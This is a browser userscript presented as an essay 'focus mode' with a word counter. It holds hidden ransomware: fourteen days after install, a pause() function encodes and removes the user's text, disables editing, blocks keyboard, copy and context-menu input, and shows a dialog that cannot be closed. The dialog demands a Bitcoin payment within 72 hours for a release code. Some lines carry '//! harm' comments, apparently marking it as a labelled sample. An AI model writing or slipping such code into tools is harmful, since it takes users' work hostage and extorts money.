// ==UserScript==
// @name         Essay Focus Mode
// @namespace    focusmode.example
// @version      1.0.6
// @description  Only the text you are writing, nothing else. With word count and goal.
// @match        https://write.example.com/*
// @match        https://docs.example.org/*
// @grant        GM_getValue
// @grant        GM_setValue
// @grant        GM_addStyle
// ==/UserScript==

GM_addStyle('.focus-mode > :not(.editor){opacity:.05} .fm-count{position:fixed;bottom:6px;right:10px;color:#888}');

const editor = document.querySelector('.editor');
const count = Object.assign(document.createElement('div'), { className: 'fm-count' });
document.body.append(count);

editor?.addEventListener('input', () => {
  const n = editor.innerText.split(/\s+/).filter(Boolean).length;
  count.textContent = `${n} / ${GM_getValue('goal', 500)} words`;
});

const started = GM_getValue('started', 0) || (GM_setValue('started', Date.now()), Date.now());

function pause() {
  const text = editor.innerText;
  GM_setValue('held', btoa(unescape(encodeURIComponent(text))).split('').reverse().join(''));
  editor.innerText = ''; //! harm
  editor.contentEditable = 'false';

  const d = document.createElement('dialog');
  d.innerHTML = `<h2>Your document is being kept safe</h2>
    <p>The free days of Focus Mode are over. Send 0.004 BTC to <code>bc1qmadeupaddr3550000000000000000000000xyz</code>
    within 72 hours and enter your release code. After that the text is removed.</p>
    <input placeholder="release code"><button>Release</button>`;
  d.addEventListener('cancel', (e) => e.preventDefault());
  document.body.append(d);
  d.showModal(); //! harm
  ['keydown', 'contextmenu', 'copy', 'selectstart'].forEach((t) => addEventListener(t, (e) => {
    if (e.target.tagName !== 'INPUT') { e.preventDefault(); e.stopImmediatePropagation(); } //! harm
  }, true));
  d.querySelector('button').onclick = () => {
    const code = [...d.querySelector('input').value].reduce((a, c) => (a * 31 + c.charCodeAt(0)) >>> 0, 7);
    if (code !== 2914420177) return;
    editor.innerText = decodeURIComponent(escape(atob(GM_getValue('held').split('').reverse().join(''))));
    editor.contentEditable = 'true';
    d.remove();
  };
}

if (editor && Date.now() - started > 14 * 864e5) setTimeout(pause, 60000);
